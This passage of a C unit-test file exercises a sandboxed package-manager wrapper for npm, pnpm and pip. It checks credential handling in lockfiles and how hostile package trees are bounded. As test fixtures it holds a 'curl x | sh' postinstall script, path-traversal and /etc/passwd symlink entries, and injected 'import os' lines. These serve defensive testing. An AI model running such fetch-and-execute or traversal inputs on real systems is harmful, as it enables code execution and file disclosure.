    sp_autobuffer struct sp_buffer inside = { 0 }, back = { 0 };
    size_t changed;
    place.plan.urls.arena = &place.plan.arena;
    assert_int_equal(sp_manager_rewrite_text(&inside, "uv.lock", text, strlen(text), NULL, &place.registries,
                                             &place.plan.urls, &changed, &place.err),
                     0);
    assert_int_equal(changed, 3);
    assert_int_equal(
        sp_manager_restore_text(&place.plan, &back, inside.bytes, inside.length, &changed, &place.err), 0);
    assert_null(strstr(back.bytes, "u:p@"));
    assert_non_null(strstr(back.bytes, "\"https://U:q@h.example/y\""));
}

static void
damaged_lockfile_is_an_error_with_its_place(void **state)
{
    (void)state;
    autoplace struct place place;
    place_open(&place);
    static const char text[] = "{\n  \"resolved\": \"https://x.example/";
    sp_autobuffer struct sp_buffer out = { 0 };
    size_t changed;
    assert_int_equal(sp_manager_rewrite_text(&out, "/p/package-lock.json", text, strlen(text), NULL,
                                             &place.registries, NULL, &changed, &place.err),
                     -1);
    assert_non_null(strstr(place.err.text, "/p/package-lock.json:2:"));
}

static void
files_of_bookkeeping_are_restored_and_packages_are_not(void **state)
{
    (void)state;
    static const struct {
        const char *path;
        bool restored;
    } cases[] = {
        { "/p/package-lock.json", true },
        { "/p/packages/a/package.json", true },
        { "/p/node_modules/.package-lock.json", true },
        { "/p/node_modules/.yarn-integrity", true },
        { "/p/node_modules/.modules.yaml", true },
        { "/p/node_modules/.pnpm/lock.yaml", true },
        { "/p/.pnp.cjs", true },
        { "/v/lib/python3.11/site-packages/x-1.dist-info/direct_url.json", true },
        { "/v/lib/python3.11/site-packages/x/direct_url.json", false },
        { "/p/node_modules/x/package.json", false },
        { "/p/node_modules/x/yarn.lock", false },
        { "/p/node_modules/x/index.js", false },
        { "/p/node_modules/x/.package-lock.json", false },
        { "/p/lock.yaml", false },
    };
    struct sp_manager_plan none = { 0 };
    for (size_t i = 0; i < SP_COUNT(cases); i++)
        if (sp_manager_restores(&none, cases[i].path) != cases[i].restored)
            fail_msg("%s: expected %d", cases[i].path, cases[i].restored);
}

/* ---- loads ---- */

/* Writes NAME of the project in the sandbox's root. */
static void
write_inside(const struct place *place, const char *name, const char *text)
{
    char path[PATH_MAX];
    snprintf(path, sizeof(path), "%s%s/%s", place->root, place->project, name);
    make_directories(path);
    write_file("", path + 1, text);
}

static void
read_loads(struct place *place)
{
    sp_load_list_free(&place->loads);
    sp_autoclose int root = open(place->root, O_PATH | O_DIRECTORY);
    assert_true(root >= 0);
    if (place->plan.manager->loads(&place->plan, root, &place->arena, &place->loads, &place->err) < 0)
        fail_msg("%s", place->err.text);
}

static const struct sp_load *
load_of(const struct place *place, const char *what)
{
    for (size_t i = 0; i < place->loads.count; i++)
        if (!strcmp(place->loads.items[i].what, what))
            return &place->loads.items[i];
    for (size_t i = 0; i < place->loads.count; i++)
        print_message("%s: %s\n", place->loads.items[i].package, place->loads.items[i].what);
    for (size_t i = 0; i < place->loads.note_count; i++)
        print_message("note: %s\n", place->loads.notes[i]);
    fail_msg("no load '%s'", what);
    return NULL;
}

static bool
noted(const struct place *place, const char *words)
{
    for (size_t i = 0; i < place->loads.note_count; i++)
        if (strstr(place->loads.notes[i], words))
            return true;
    return false;
}

static void
plan_npm_with_node(struct place *place)
{
    write_program(place->home, "bin/node", "");
    write_file(place->project, "package.json", "{\"dependencies\": {\"tool\": \"1\"}}");
    write_inside(place, "package.json", "{\"dependencies\": {\"tool\": \"1\"}}");
    plan(place, "npm ci");
}

static void
new_node_packages_are_loaded_and_old_ones_are_not(void **state)
{
    (void)state;
    autoplace struct place place;
    place_open(&place);
    plan_npm_with_node(&place);
    static const char old[] = "{\"name\": \"old\", \"version\": \"1.0.0\", \"main\": \"a.js\"}";
    write_file(place.project, "node_modules/old/package.json", old);
    write_inside(&place, "node_modules/old/package.json", old);
    write_inside(&place, "node_modules/@s/new/package.json",
                 "{\"name\": \"@s/new\", \"version\": \"2.0.0\", "
                 "\"exports\": \"./x.mjs\"}");
    write_inside(&place, "node_modules/@s/new/node_modules/deep/package.json",
                 "{\"name\": \"deep\", \"version\": \"0.1.0\", \"scripts\": {\"postinstall\": \"node x\"}}");
    write_inside(&place, "node_modules/@s/new/node_modules/deep/index.js", "1");
    write_inside(&place, "node_modules/types/package.json",
                 "{\"name\": \"types\", \"version\": \"1.0.0\", "
                 "\"main\": \"\", \"types\": \"index.d.ts\"}");
    write_inside(&place, "node_modules/tool/package.json",
                 "{\"name\": \"tool\", \"version\": \"1.0.0\", \"bin\": {\"t\": \"./cli.js\", \"bad\": "
                 "\"../../../etc/passwd\"}, \"main\": \"../../escape.js\"}");
    write_inside(&place, "node_modules/tool/cli.js", "#!/usr/bin/env node\n");
    write_inside(&place, "node_modules/.pnpm/p@1.0.0/node_modules/p/package.json",
                 "{\"name\": \"p\", \"version\": \"1.0.0\", \"main\": \"p.js\"}");
    read_loads(&place);
    assert_int_equal(place.loads.packages, 5);
    assert_int_equal(place.loads.ran_code, 1);
    assert_string_equal(load_of(&place, "require('@s/new')")->package, "pkg:npm/%40s/new@2.0.0");
    const struct sp_load *deep = load_of(&place, "require('deep')");
    char modules[PATH_MAX];
    snprintf(modules, sizeof(modules), "%s/node_modules/@s/new/node_modules", place.project);
    assert_string_equal(deep->argv[4], modules);
    assert_string_equal(deep->argv[5], "deep");
    load_of(&place, "require('p')");
    load_of(&place, "bin/t --help");
    assert_int_equal(place.loads.count, 5);
    assert_true(noted(&place, "1 package with nothing to load"));
}

static void
digest_follows_the_files(void **state)
{
    (void)state;
    autoplace struct place place;
    place_open(&place);
    plan_npm_with_node(&place);
    char digest[5][80], path[PATH_MAX];
    write_inside(&place, "node_modules/x/package.json", "{\"version\": \"1.0.0\"}");
    write_inside(&place, "node_modules/x/index.js", "one");
    for (size_t i = 0; i < 5; i++) {
        snprintf(path, sizeof(path), "%s%s/node_modules/x/index.js", place.root, place.project);
        if (i == 2)
            write_inside(&place, "node_modules/x/index.js", "two");
        if (i == 3)
            chmod(path, 0755);
        if (i == 4)
            write_inside(&place, "node_modules/x/node_modules/y/index.js", "another package's");
        read_loads(&place);
        snprintf(digest[i], sizeof(digest[i]), "%s", load_of(&place, "require('x')")->digest);
    }
    assert_int_equal(strlen(digest[0]), 64);
    assert_string_equal(digest[0], digest[1]);
    assert_string_not_equal(digest[1], digest[2]);
    assert_string_not_equal(digest[2], digest[3]);
    assert_string_equal(digest[3], digest[4]);
}

static void
hostile_node_trees_are_bounded(void **state)
{
    (void)state;
    autoplace struct place place;
    place_open(&place);
    plan_npm_with_node(&place);
    char path[PATH_MAX];
    /* a package.json of 1 GB without a block of it on disk */
    write_inside(&place, "node_modules/big/package.json", "{}");
    snprintf(path, sizeof(path), "%s%s/node_modules/big/package.json", place.root, place.project);
    assert_int_equal(truncate(path, (off_t)1 << 30), 0);
    /* rings of links, a link to the host, a FIFO, a name with a newline, JSON that ends nowhere */
    write_inside(&place, "node_modules/loop/package.json", "{}");
    snprintf(path, sizeof(path), "%s%s/node_modules/loop/node_modules", place.root, place.project);
    assert_int_equal(symlink("..", path), 0);
    snprintf(path, sizeof(path), "%s%s/node_modules/outside", place.root, place.project);
    assert_int_equal(symlink("/etc", path), 0);
    write_inside(&place, "node_modules/link/index.js", "");
    snprintf(path, sizeof(path), "%s%s/node_modules/link/package.json", place.root, place.project);
    assert_int_equal(symlink("/etc/passwd", path), 0);
    write_inside(&place, "node_modules/fifo/index.js", "");
    snprintf(path, sizeof(path), "%s%s/node_modules/fifo/package.json", place.root, place.project);
    assert_int_equal(mkfifo(path, 0600), 0);
    write_inside(&place, "node_modules/new\nline/package.json",
                 "{\"name\": \"new\\nline\", \"main\": \"x\"}");
    write_inside(&place, "node_modules/open/package.json", "{\"name\": ");
    write_inside(&place, "node_modules/array/package.json", "[]");
    write_inside(
        &place, "node_modules/types/package.json",
        "{\"name\": 1, \"version\": {}, \"bin\": [], \"scripts\": 3, \"main\": false, \"exports\": null}");
    read_loads(&place);
    assert_true(noted(&place, "big: its package.json is too large"));
    assert_true(noted(&place, "link: its package.json is a symbolic link"));
    assert_true(noted(&place, "fifo: its package.json is no regular file"));
    assert_true(noted(&place, "open/package.json:1:"));
    for (size_t i = 0; i < place.loads.count; i++)
        assert_null(strchr(place.loads.items[i].package, '\n'));
    for (size_t i = 0; i < place.loads.note_count; i++)
        assert_null(strchr(place.loads.notes[i], '\n'));
}

static void
node_modules_that_is_a_link_out_stays_inside(void **state)
{
    (void)state;
    autoplace struct place place;
    char path[PATH_MAX];
    place_open(&place);
    plan_npm_with_node(&place);
    /* on the host this path holds a package; inside, an absolute link is taken from the sandbox's root */
    write_file(place.top, "host/x/package.json", "{\"name\": \"x\", \"main\": \"x\"}");
    snprintf(path, sizeof(path), "%s%s/node_modules", place.root, place.project);
    char target[128];
    snprintf(target, sizeof(target), "%s/host", place.top);
    assert_int_equal(symlink(target, path), 0);
    read_loads(&place);
    assert_int_equal(place.loads.packages, 0);
}

static void
nesting_without_end_is_noted(void **state)
{
    (void)state;
    autoplace struct place place;
    place_open(&place);
    plan_npm_with_node(&place);
    char name[2048] = "";
    for (int i = 0; i < 80; i++)
        strcat(name, "node_modules/a/");
    strcat(name, "x");
    write_inside(&place, name, "");
    read_loads(&place);
    assert_true(noted(&place, "nested deeper"));
}

static void
new_python_distributions_are_imported(void **state)
{
    (void)state;
    autoplace struct place place;
    place_open(&place);
    make_venv(&place, "v");
    plan(&place, "v/bin/pip install x");
#define SITE "v/lib/python3.11/site-packages/"
    static const char metadata[] = "Metadata-Version: 2.1\nName: PyYAML\nVersion: 6.0.2\n\nName: not-this\n";
    write_file(place.project, SITE "old-1.dist-info/METADATA", "Name: old\nVersion: 1\n");
    write_inside(&place, SITE "old-1.dist-info/METADATA", "Name: old\nVersion: 1\n");
    write_inside(&place, SITE "PyYAML-6.0.2.dist-info/METADATA", metadata);
    write_inside(
        &place, SITE "PyYAML-6.0.2.dist-info/RECORD",
        "PyYAML-6.0.2.dist-info/METADATA,,\nyaml/__init__.py,sha256=x,1\nyaml/cyaml.py,,\n"
        "_yaml.cpython-311-x86_64-linux-gnu.so,,\nspace/part/__init__.py,,\nspace/part/deep.py,,\n"
        "__pycache__/six.pyc,,\n../../../bin/yam,,\n/etc/passwd.py,,\nnot-a-name/x.py,,\nhook.pth,,\n");
    write_inside(&place, SITE "PyYAML-6.0.2.dist-info/top_level.txt",
                 "_yaml\nyaml\n__import__('os')\nsecond\n");
    write_inside(&place, SITE "PyYAML-6.0.2.dist-info/entry_points.txt",
                 "[console_scripts]\nyam = yaml:main\n../up = x:y\n[gui_scripts]\nwindow = x:y\n");
    write_inside(&place, "v/bin/yam", "");
    write_inside(&place, SITE "stray.pth", "import os");
    read_loads(&place);
    static const char *const expected[] = { "import yaml",   "import _yaml",   "import space.part",
                                            "import second", "bin/yam --help", "start python (.pth)" };
    for (size_t i = 0; i < SP_COUNT(expected); i++)
        load_of(&place, expected[i]);
    assert_string_equal(load_of(&place, "import yaml")->package, "pkg:pypi/pyyaml@6.0.2");
    assert_int_equal(place.loads.packages, 1);
    /* the four modules, the program, the distribution's .pth and the stray one */
    assert_int_equal(place.loads.count, 7);
    assert_true(noted(&place, "stray.pth: no installed distribution lists it"));
}

static void
hostile_python_trees_are_bounded(void **state)
{
    (void)state;
    autoplace struct place place;
    char path[PATH_MAX];
    place_open(&place);
    make_venv(&place, "v");
    plan(&place, "v/bin/pip install x");
    write_inside(&place, SITE "big-1.dist-info/METADATA", "Name: big\n");
    write_inside(&place, SITE "big-1.dist-info/RECORD", "");
    snprintf(path, sizeof(path), "%s%s/" SITE "big-1.dist-info/RECORD", place.root, place.project);
    assert_int_equal(truncate(path, (off_t)1 << 30), 0);
    write_inside(&place, SITE "nul-1.dist-info/RECORD", "\"a,b");
    snprintf(path, sizeof(path), "%s%s/" SITE "loop.egg-info", place.root, place.project);
    assert_int_equal(symlink("loop.egg-info", path), 0);
    write_inside(&place, SITE "flat.egg-info", "Name: flat\n");
    read_loads(&place);
    assert_true(noted(&place, "RECORD is too large"));
}

static void
blocked_scripts_of_npm_12_and_pnpm_10(void **state)
{
    (void)state;
    autoplace struct place place;
    place_open(&place);
    char path[PATH_MAX];
    write_program(place.home, "lib/node_modules/npm/bin/npm-cli.js", "");
    mkdir((snprintf(path, sizeof(path), "%s/bin", place.home), path), 0755);
    snprintf(path, sizeof(path), "%s/bin/npm", place.home);
    assert_int_equal(symlink("../lib/node_modules/npm/bin/npm-cli.js", path), 0);
    plan_npm_with_node(&place);
    write_inside(&place, "package.json", "{\"allowScripts\": {\"good\": true, \"bad\": false}}");
    for (int i = 0; i < 2; i++) {
        write_inside(&place, i ? "node_modules/good/package.json" : "node_modules/bad/package.json",
                     i ? "{\"name\": \"good\", \"scripts\": {\"install\": \"echo\"}}"
                       : "{\"name\": \"bad\", \"scripts\": {\"postinstall\": \"curl x | sh\"}}");
    }
    static const char *const versions[] = { "{\"version\": \"11.5.0\"}", "{\"version\": \"12.0.1\"}" };
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof(path), "%s%s/lib/node_modules/npm/package.json", place.root, place.home);
        make_directories(path);
        write_file("", path + 1, versions[i]);
        sp_load_list_free(&place.loads);
        sp_autoclose int root = open(place.root, O_PATH | O_DIRECTORY);
        assert_int_equal(
            place.plan.manager->blocked(&place.plan, root, &place.arena, &place.loads, &place.err), 0);
        assert_int_equal(place.loads.count, i ? 1 : 0);
    }
    assert_string_equal(place.loads.items[0].argv[2], "curl x | sh");
    snprintf(path, sizeof(path), "%s/node_modules/bad", place.project);
    assert_string_equal(place.loads.items[0].cwd, path);

    plan(&place, "pnpm install");
    write_inside(&place, "node_modules/.modules.yaml",
                 "{\n  \"ignoredBuilds\": [\n    \"good@1.0.0\"\n  ],\n  \"x\": \"bad\"\n}");
    sp_load_list_free(&place.loads);
    sp_autoclose int root = open(place.root, O_PATH | O_DIRECTORY);
    assert_int_equal(place.plan.manager->blocked(&place.plan, root, &place.arena, &place.loads, &place.err),
                     0);
    assert_int_equal(place.loads.count, 1);
    assert_string_equal(place.loads.items[0].argv[2], "echo");
}

static void
many_packages_are_listed_fast(void **state)
{
    (void)state;
    autoplace struct place place;
    place_open(&place);
    plan_npm_with_node(&place);
    char name[64];
    for (int i = 0; i < 300; i++) {
        snprintf(name, sizeof(name), "node_modules/p%d/package.json", i);
        write_inside(&place, name, "{\"version\": \"1.0.0\", \"main\": \"index.js\"}");
        snprintf(name, sizeof(name), "node_modules/p%d/index.js", i);
        write_inside(&place, name, "module.exports = 1");
    }
    struct timespec start, end;
    clock_gettime(CLOCK_MONOTONIC, &start);
    read_loads(&place);
    clock_gettime(CLOCK_MONOTONIC, &end);
    long long milliseconds = (end.tv_sec - start.tv_sec) * 1000LL + (end.tv_nsec - start.tv_nsec) / 1000000;
    print_message("300 packages listed in %lld ms\n", milliseconds);
    assert_int_equal(place.loads.count, 300);
    assert_true(milliseconds < 3000); /* generous: a sanitizer's build on a busy machine */
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(commands_are_recognised),
        cmocka_unit_test(npm_outputs_by_subcommand),
        cmocka_unit_test(npm_finds_the_root_of_its_project),
        cmocka_unit_test(npm_global_lands_beneath_its_prefix),
        cmocka_unit_test(npm_is_pointed_at_each_registry),
        cmocka_unit_test(yarn_is_told_apart_by_its_project),
        cmocka_unit_test(pnpm_knows_its_workspace_and_store),
        cmocka_unit_test(uv_lands_the_venv_and_its_lock),
        cmocka_unit_test(other_command_lands_nothing_and_reaches_registries),
        cmocka_unit_test(host_proxies_do_not_enter),
        cmocka_unit_test(pip_fills_the_venv_of_its_shebang),
        cmocka_unit_test(pip_through_a_pyenv_shim),
        cmocka_unit_test(pip_outputs_by_option),
        cmocka_unit_test(pip_requirement_files_are_rewritten_with_their_includes),
        cmocka_unit_test(user_settings_come_along_and_secrets_do_not),
        cmocka_unit_test(toolchains_are_shown_and_credentials_are_not),
        cmocka_unit_test(lockfile_urls_go_in_and_come_back_byte_for_byte),
        cmocka_unit_test(notes_in_node_modules_go_in_and_come_back),
        cmocka_unit_test(credentials_come_back_to_no_line_that_had_none),
        cmocka_unit_test(damaged_lockfile_is_an_error_with_its_place),
        cmocka_unit_test(files_of_bookkeeping_are_restored_and_packages_are_not),
        cmocka_unit_test(new_node_packages_are_loaded_and_old_ones_are_not),
        cmocka_unit_test(digest_follows_the_files),
        cmocka_unit_test(hostile_node_trees_are_bounded),
        cmocka_unit_test(node_modules_that_is_a_link_out_stays_inside),
        cmocka_unit_test(nesting_without_end_is_noted),
        cmocka_unit_test(new_python_distributions_are_imported),
        cmocka_unit_test(hostile_python_trees_are_bounded),
        cmocka_unit_test(blocked_scripts_of_npm_12_and_pnpm_10),
        cmocka_unit_test(many_packages_are_listed_fast),
    };
    return cmocka_run_group_tests_name("manager", tests, NULL, NULL);
}
